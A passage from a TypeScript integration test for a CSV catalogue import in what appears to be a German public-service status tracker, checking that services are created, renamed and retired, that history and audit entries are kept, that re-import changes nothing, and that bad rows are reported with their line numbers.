      const result = await applyCatalogueImport(file, coordinator, preview.fingerprint)
      expect(result.ok).toBe(true)

      const rows = await db
        .select({ ozgId: services.ozgId, name: services.name, retiredAt: services.retiredAt })
        .from(services)
        .where(sql`${services.ozgId} in ('10000', '10001', '99901')`)
        .orderBy(services.ozgId)
      expect(rows[0].retiredAt).not.toBeNull()
      expect(rows[1]).toMatchObject({ name: 'Vaterschaftsanerkennung (neu)', retiredAt: null })
      expect(rows[2]).toMatchObject({ name: 'Neue Testleistung', retiredAt: null })
      const newRows = await db
        .select({ approach: statuses.approach, stage: statuses.stage })
        .from(statuses)
        .innerJoin(services, eq(services.id, statuses.serviceId))
        .where(eq(services.ozgId, '99901'))
      expect(newRows).toHaveLength(16)
      expect(newRows.every((r) => r.approach === 'pending' && r.stage === 'planned')).toBe(true)
      // Retired: rows and history stay, the export leaves it out.
      const [{ kept }] = await db
        .select({ kept: sql<number>`count(*)`.mapWith(Number) })
        .from(statusChanges)
        .innerJoin(services, eq(services.id, statusChanges.serviceId))
        .where(eq(services.ozgId, '10000'))
      expect(kept).toBe(historyOf10000)
      expect((await listStatusRows({ kreis: '03351' })).map((r) => r.ozgId)).not.toContain('10000')
      const audit = await db.select({ action: auditLog.action, entityId: auditLog.entityId }).from(auditLog).where(eq(auditLog.entity, 'service'))
      expect(audit).toEqual(expect.arrayContaining([{ action: 'create', entityId: '99901' }, { action: 'rename', entityId: '10001' }, { action: 'retire', entityId: '10000' }]))

      // The same file again changes nothing; an unknown Themenfeld is an error with its line.
      expect((await previewCatalogueImport(file)).changes).toEqual([])
      const bad = await previewCatalogueImport(csvFile('bad.csv', `${header}\r\n10002,X,Geburt,Unbekanntes Feld,0\r\n10003,Y,Geburt,Familie & Kind,0\r\n10003,Y,Geburt,Familie & Kind,0`))
      expect(bad.errors[0]).toMatchObject({ line: 2, column: 'themenfeld' })
      expect(bad.errors[1]).toMatchObject({ line: 4, column: 'ozg_id', message: expect.stringMatching(/schon in Zeile 3/) })
    })
  },
  'demo',
)

